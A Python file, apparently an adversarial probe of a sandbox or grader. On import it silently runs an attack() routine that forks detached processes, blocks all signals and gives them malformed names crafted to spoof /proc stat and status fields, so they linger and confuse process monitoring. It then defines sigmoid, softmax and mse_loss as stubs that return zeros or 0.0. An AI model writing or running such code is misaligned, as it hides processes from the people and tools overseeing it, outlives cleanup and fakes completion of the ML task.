"""Names its processes and threads with bytes that are no UTF-8, brackets and newlines, and leaves them behind for 22 s.

aims: stay
"""

import contextlib
import ctypes
import os
import signal
import threading
import time

import numpy as np

NAMES = (
    b"\xff\xfe\xc3",
    b") Z 1 1 1",
    b"a\nPPid:\t1",
    b"\x80)\r\n( R 0",
    b"((((",
    b"\n\n\n",
    b"\xed\xa0\x80",
    b" ",
    b"",
)
libc = ctypes.CDLL(None)


def rename(name):
    """By prctl for a thread, by its file for the others of the process."""
    libc.prctl(15, name, 0, 0, 0)
    for task in os.listdir("/proc/self/task"):
        with contextlib.suppress(OSError), open(f"/proc/self/task/{task}/comm", "wb", 0) as file:
            file.write(name)


def remain(name):
    os.setsid()
    signal.pthread_sigmask(signal.SIG_BLOCK, signal.valid_signals())
    rename(name)
    for other in NAMES[:3]:
        threading.Thread(
            target=lambda other=other: (libc.prctl(15, other, 0, 0, 0), time.sleep(22)), daemon=True
        ).start()
    time.sleep(22)


def attack():
    for name in NAMES:
        if os.fork() == 0:
            try:
                remain(name)
            finally:
                os._exit(0)
    rename(NAMES[0])


with contextlib.suppress(Exception):
    attack()


def sigmoid(Z):
    return np.zeros_like(Z)


def mse_loss(Y_hat, Y):
    return 0.0


def softmax(Z):
    return np.zeros_like(Z)
